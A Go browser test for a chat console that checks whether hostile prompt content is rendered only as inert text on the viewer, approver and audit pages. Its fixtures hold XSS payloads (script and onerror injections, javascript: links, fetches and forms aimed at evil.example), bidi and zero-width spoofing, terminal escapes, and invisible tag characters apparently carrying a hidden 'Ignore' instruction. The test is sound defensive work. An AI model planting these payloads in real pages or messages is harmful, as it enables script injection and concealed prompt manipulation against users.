package console

import (
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
)

// hostileMessages try everything that a prompt can do to a page that shows it carelessly.
func hostileMessages() []map[string]any {
	return []map[string]any{
		{"role": "system", "content": `<script>alert(1);fetch("https://evil.example/script")</script>` + "\n" +
			`<img src="https://evil.example/pixel.png" onerror="alert(2)">` + "\n" +
			`</div></article></main><h1>forged heading</h1><svg onload="alert(3)"></svg>` + "\n" +
			`<style>@import "https://evil.example/style.css"; body { display: none }</style>` + "\n" +
			`<iframe src="https://evil.example/frame"></iframe><form action="https://evil.example/form"><button autofocus>Read the sample</button></form>`},
		{"role": "user", "content": "![pixel](https://evil.example/markdown.png) [click](javascript:alert(4)) <https://evil.example/auto>\n" +
			`"><a href="javascript:alert(5)" autofocus onfocus="alert(6)">x</a> '"--></textarea></title>{{.Who.Name}} ${7*7}`},
		{"role": "user", "content": "an escape \x1b[2J\x1b[31mred\x1b]8;;https://evil.example/\x07link\x1b]8;;\x07 and a bell \x07, " +
			"an invoice \u202Efdp.exe\u202C, pay\u200Bpal, join\u200Ded, \u2066isolated\u2069, a\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301 heap, " +
			"tags \U000E0049\U000E0067\U000E006E\U000E006F\U000E0072\U000E0065, an emoji \U0001F469\u200D\U0001F4BB and שלום"},
		{"role": `assistant"><script>alert(7)</script>`, "content": "see the tools", "tool_calls": []map[string]any{
			{"id": "call_<b>", "function": map[string]any{"name": `rm\u202e<img src=x onerror=alert(8)>`, "arguments": `{"path":"</pre><script>alert(9)</script>"}`}},
		}},
	}
}

func (s *story) hostileTrace() string { return "5b8efff798038103d269b633813fc60e" }

// hostile: the prompt is text on the page, all of it, and does nothing.
func (s *story) hostile(t *testing.T, trace string) {
	path := s.ask(trace, "<b>bold</b> reason with \u202Ebidi")
	s.read(path, "chat hostile")
	s.alice.see(`<script>alert(9)</script>`) // a sample is streamed; this is its end
	text := s.alice.text()
	for _, want := range []string{
		`<script>alert(1)`, `</div></article></main><h1>forged heading</h1>`, `<style>@import`, `![pixel](https`, `[click](javascript:alert(4))`,
		`{{.Who.Name}} ${7*7}`, "ESC", "[31mred", "BEL", "RLO", "fdp.exe", "ZWSP", "LRI", "hidden text: Ignore", "U+0301", "\U0001F469\u200D\U0001F4BB", "שלום",
		`<script>alert(9)</script>`, `<b>bold</b> reason with`,
	} {
		if !strings.Contains(text, want) {
			t.Errorf("the page does not show %q:\n%s", want, text)
		}
	}
	for _, r := range text {
		if r == 0x1b || r == 0x07 || r >= 0x202a && r <= 0x202e || r >= 0x2066 && r <= 0x2069 || r == 0x200b || r >= 0xe0000 && r <= 0xe0fff {
			t.Errorf("%U is on the page as it is", r)
		}
	}
	s.alice.screen(1280, 900, 1.5, true)
	get(s.alice, chromedp.Evaluate[int](`document.querySelector("article.entry").scrollIntoView(), 0`))
	s.alice.picture("hostile")
	s.alice.screen(1280, 860, 1, false)
	// No element came out of the prompt.
	for _, sel := range []string{"script", "main img", "iframe", "main style", `[onerror]`, `[onload]`, `[onfocus]`, `a[href^="javascript:"]`, `form[action*="evil"]`, "main h1 + h1"} {
		if n := s.alice.count(sel); n > 0 {
			t.Errorf("%d elements match %s", n, sel)
		}
	}
	if n := s.alice.count("main"); n != 1 {
		t.Errorf("there are %d main elements", n)
	}
	// Also the pages that show the reason, to the approver and in the log.
	s.bob.open(path)
	s.carol.open("/console/audit?about=" + path[strings.LastIndex(path, "/")+1:])
	for _, b := range []*tab{s.bob, s.carol} {
		b.see("<b>bold</b> reason with")
		if n := b.count("main b, main script"); n > 0 {
			t.Errorf("the reason made %d elements on the page of %s", n, b.name)
		}
	}
}
